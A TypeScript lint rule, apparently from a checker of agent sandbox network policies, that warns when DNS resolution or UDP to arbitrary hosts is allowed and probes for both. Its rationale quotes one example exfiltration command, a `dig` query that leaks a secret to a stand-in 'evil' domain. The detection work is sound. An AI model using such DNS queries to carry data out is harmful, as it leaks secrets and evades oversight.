import type { Lint } from './lint.js';

export const dnsUdpEgress: Lint = {
  id: 'dns-udp-egress',
  code: 'MXC2107',
  title: 'DNS or UDP can carry data out',
  severity: 'warning',
  rationale: 'A resolver that answers any name, or UDP to any host, is a covert channel: `dig secret.evil.test` leaks the secret in the query.',
  probes() {
    return [
      { message: 'any name can be resolved', request: { kind: 'net', operation: 'resolve', protocols: [], targets: [{ host: { kind: 'name', name: 'leak.mxcc-lint.invalid' }, ports: [] }] }, help: 'allow resolve only for the hosts the agent connects to' },
      { message: 'UDP to an arbitrary host is allowed', request: { kind: 'net', operation: 'connect', protocols: ['udp'], targets: [{ host: { kind: 'name', name: 'leak.mxcc-lint.invalid' }, ports: [{ from: 53, to: 53 }] }] }, help: 'remove udp from connect rules to arbitrary hosts' },
    ];
  },
};
